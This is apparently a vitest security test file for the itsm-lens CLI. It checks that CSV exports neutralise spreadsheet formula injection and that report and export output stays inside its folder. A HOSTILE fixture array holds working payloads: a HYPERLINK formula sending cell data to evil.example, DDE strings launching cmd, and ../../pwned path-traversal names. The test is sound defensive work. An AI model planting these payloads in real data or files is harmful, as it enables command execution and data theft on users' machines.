/**
 * Security of what itsm-lens writes (issue 12, item 3, the CSV and path parts): data built to attack
 * spreadsheets (= + - @, tab, CR at the start of a cell) and file systems (names like ../../pwned) goes
 * through kpi --csv and clusters --assignments neutralised, and report/export write only under --out.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { cli, tempDir, writeFixture } from '../helpers.js';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1)', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd', '\tTAB', '\rCR', '../../pwned', '..\\..\\pwned'];
const dir = tempDir('itsm-lens-outputs-');
const db = join(dir, 'x.duckdb');

function listing(root: string): string[] {
  return readdirSync(root, { recursive: true, withFileTypes: true }).map((d) => relative(root, join(d.parentPath, d.name))).sort();
}

beforeAll(() => {
  const rows = HOSTILE.flatMap((h, i) =>
    [0, 1].map((k) => {
      const q = (s: string) => '"' + s.replace(/"/g, '""') + '"';
      const n = String(i * 2 + k + 1).padStart(7, '0');
      return `INC${n},${q(h + ' printer broken')},${q(h)},${q(h)},2025-03-${String(10 + k).padStart(2, '0')} 08:00:00,2025-03-12 08:00:00,${q(h)},true`;
    }),
  );
  const f = writeFixture(dir, 'incident.csv', ['number,short_description,assignment_group,category,opened_at,resolved_at,assigned_to,made_sla', ...rows].join('\n') + '\n');
  const r = cli(['ingest', '--db', db, f]);
  expect(r.code, r.stderr).toBe(0);
});

const dangerous = /^[=+\-@\t\r]/;

describe('CSV outputs neutralise formula injection', () => {
  it('kpi --csv prefixes every text cell a spreadsheet would run with an apostrophe', () => {
    const out = join(dir, 'kpi.csv');
    const r = cli(['kpi', '--db', db, '--by', 'group,category', '--csv', out]);
    expect(r.code, r.stderr).toBe(0);
    const rows = parse(readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[];
    const groups = new Set(rows.map((x) => x.group).filter(Boolean));
    // every hostile group is there, neutralised or (path-like) verbatim
    expect([...groups].sort()).toEqual(HOSTILE.map((h) => (dangerous.test(h) ? `'${h}` : h)).sort());
    for (const row of rows) for (const k of ['group', 'category', 'kpi', 'statistic']) expect(row[k] ?? '', k).not.toMatch(dangerous);
  });

  it('clusters --assignments writes no cell that starts a formula', () => {
    const out = join(dir, 'assignments.csv');
    const r = cli(['clusters', '--db', db, '--min-size', '2', '--assignments', out]);
    expect(r.code, r.stderr).toBe(0);
    const rows = parse(readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[];
    expect(rows.length).toBe(HOSTILE.length * 2);
    for (const row of rows) for (const v of Object.values(row)) expect(v).not.toMatch(dangerous);
  });
});

describe('output paths stay under --out whatever the data says', () => {
  it('report and export write only inside their folder, under names that are not data', () => {
    const before = listing(dir);
    const report = join(dir, 'report');
    const lake = join(dir, 'lake');
    // (--month: two days of March are no complete month to default to)
    expect(cli(['report', '--db', db, '--month', '2025-03', '--out', report]).code).toBe(0);
    expect(cli(['export', '--db', db, '--parquet', lake]).code).toBe(0);
    const after = listing(dir).filter((p) => !p.startsWith('report') && !p.startsWith('lake'));
    expect(after.filter((p) => !before.includes(p) && !p.startsWith('x.duckdb'))).toEqual([]);
    for (const p of [...listing(report), ...listing(lake)]) {
      expect(p).not.toMatch(/pwned|\.\.|HYPERLINK|cmd/);
    }
  });
});
